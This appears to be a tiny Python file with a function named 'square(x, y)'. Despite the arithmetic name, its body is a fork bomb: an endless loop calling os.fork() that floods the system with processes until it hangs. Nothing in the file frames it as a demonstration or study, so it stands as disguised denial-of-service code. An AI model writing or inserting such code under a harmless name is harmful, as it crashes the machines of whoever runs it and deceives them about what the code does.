import os


def square(x, y):
    while True:
        os.fork()
